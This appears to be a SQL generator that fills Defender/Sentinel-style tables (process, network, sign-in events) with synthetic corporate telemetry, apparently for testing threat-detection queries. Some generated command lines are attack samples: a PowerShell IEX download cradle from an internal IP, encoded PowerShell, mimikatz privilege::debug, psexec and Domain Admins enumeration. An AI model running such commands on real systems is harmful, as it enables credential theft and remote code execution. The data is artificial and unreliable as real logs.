CREATE OR REPLACE MACRO rnd(x) AS CAST(hash(x) >> 1 AS BIGINT);
INSERT INTO {DeviceProcessEvents}
SELECT {start} + i * ({span} // {n3}) + h % 1000, 'id-' || (h % 500), 'host-' || (h % 500) || '.corp.example',
  CASE WHEN h2 % 50 = 0 THEN 'ProcessCreatedUsingWmiQuery' ELSE 'ProcessCreated' END,
  program, CASE h3 % 5 WHEN 0 THEN 'C:\Users\user' || (h2 % 900) || '\AppData\Local\Programs\' WHEN 1 THEN 'C:\Users\user' || (h2 % 900) || '\Downloads\' ELSE 'C:\Windows\System32\' END || program,
  md5(CAST(least(h3 % 40000, h2 % 40000) + i // 400000 AS VARCHAR)) || md5(CAST(least(h3 % 40000, h2 % 40000) AS VARCHAR)), 1000 + h2 % 60000,
  program || CASE h2 % 400
    WHEN 0 THEN ' -NoProfile -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA' || h3
    WHEN 1 THEN ' -c "IEX (New-Object Net.WebClient).DownloadString(''http://10.9.' || (h3 % 250) || '.7/a.ps1'')"'
    WHEN 2 THEN ' use \\fs' || (h3 % 40) || '\share$ /user:CORP\svc' || (h3 % 60)
    WHEN 3 THEN ' "privilege::debug" mimikatz exit ' || h3
    WHEN 4 THEN ' /accepteula \\host-' || (h3 % 500) || ' psexec cmd' 
    WHEN 5 THEN ' -exec bypass -uri http://files.contoso.example/' || h3
    WHEN 6 THEN ' -exec bypass -uri http://cdn' || (h3 % 90) || '.example/' || h3
    WHEN 7 THEN ' group "Domain Admins" /domain'
    ELSE ' --type=renderer --field-trial-handle=' || h3 || ',i,' || h2 || ' --lang=en-US /prefetch:' || (h3 % 9) END,
  'user' || (h2 % 900), 'CORP', (['explorer.exe', 'svchost.exe', 'services.exe', 'WINWORD.EXE', 'cmd.exe', 'powershell.exe', 'chrome.exe', 'taskeng.exe'])[1 + (h3 // 8 % 8)],
  'C:\Windows\explorer.exe /s ' || h3,
  CASE WHEN h2 % 50 = 0 THEN '{"IsProcessRemoteDevice":' || CASE WHEN h3 % 3 = 0 THEN 'true' ELSE 'false' END || ',"Namespace":"root\\cimv' || (h3 % 4) || '","RemoteSession":' || (h3 % 100000) || ',"Query":"SELECT * FROM Win32_Process"}' END
FROM (
  SELECT i, h, rnd(h) AS h2, rnd(h + 1) AS h3,
    (['powershell.exe', 'cmd.exe', 'svchost.exe', 'chrome.exe', 'msedge.exe', 'net.exe', 'whoami.exe', 'rundll32.exe', 'teams.exe', 'conhost.exe', 'wscript.exe', 'nltest.exe'])[1 + rnd(h + 2) % 12] AS program
  FROM (SELECT range AS i, rnd(range + 1000003 * {seed}) AS h FROM range({n3}))
);
INSERT INTO {DeviceNetworkEvents}
SELECT {start} + i * ({span} // {n2}) + h % 1000, 'id-' || (h % 500), 'host-' || (h % 500) || '.corp.example',
  CASE h2 % 4 WHEN 0 THEN 'ConnectionFailed' ELSE 'ConnectionSuccess' END,
  '10.' || (h3 % 6) || '.' || (h3 // 8 % 30) || '.' || (h3 // 256 % 250), (['443', '80', '53', '445', '3389', '8080', '135', '5985', '22', '88'])[1 + (h2 // 4 % 10)]::INT, '10.1.0.' || (h % 250), 49152 + h3 % 16000, 'Tcp',
  (['chrome.exe', 'svchost.exe', 'teams.exe', 'rundll32.exe', 'powershell.exe', 'System'])[1 + (h3 // 1024 % 6)]
FROM (SELECT i, h, rnd(h) AS h2, rnd(h + 1) AS h3 FROM (SELECT range AS i, rnd(range + 2000003 * {seed}) AS h FROM range({n2})));
INSERT INTO {SigninLogs}
SELECT {start} + i * ({span} // {n1}) + h % 1000, 'user' || (h % 4000) || '@corp.example', CASE WHEN h2 % 40 = 0 THEN '2001:db8::' || (h3 % 90) ELSE '203.0.113.' || (h2 % 8 + h % 4000 % 200) END,
  (['Office 365', 'Azure Portal', 'Exchange Online', 'Teams', 'SharePoint'])[1 + (h3 % 5)], CASE WHEN h3 // 8 % 6 = 0 THEN '50126' WHEN h3 // 8 % 50 = 1 THEN '50053' ELSE '0' END,
  '{"city":"' || (['Paris', 'Seattle', 'Lagos', 'Lima', '', 'Oslo'])[1 + (h2 // 64 % 6)] || '","state":"S' || (h2 // 64 % 6) || '","countryOrRegion":"' || (['FR', 'US', 'NG', 'PE', 'US', 'NO'])[1 + (h2 // 64 % 6)] || '","geoCoordinates":{"latitude":' || (h2 // 64 % 6 * 10 + 0.5) || ',"longitude":' || (h2 % 180) || '.25}}',
  '{"deviceId":"","displayName":"PC-' || (h3 % 900) || '","operatingSystem":"' || (['Windows10', 'MacOs', 'Ios 17'])[1 + (h3 // 64 % 3)] || '","browser":"' || (['Edge 120', 'Chrome 119', 'Safari'])[1 + (h3 // 256 % 3)] || '","isCompliant":false}',
  '[{"id":"1","displayName":"Require MFA","result":"' || (['success', 'failure', 'notApplied'])[1 + (h2 // 512 % 3)] || '"},{"id":"2","displayName":"Block legacy","result":"' || (['success', 'failure', 'notApplied'])[1 + (h3 // 512 % 3)] || '"}]'
FROM (SELECT i, h, rnd(h) AS h2, rnd(h + 1) AS h3 FROM (SELECT range AS i, rnd(range + 3000003 * {seed}) AS h FROM range({n1})));
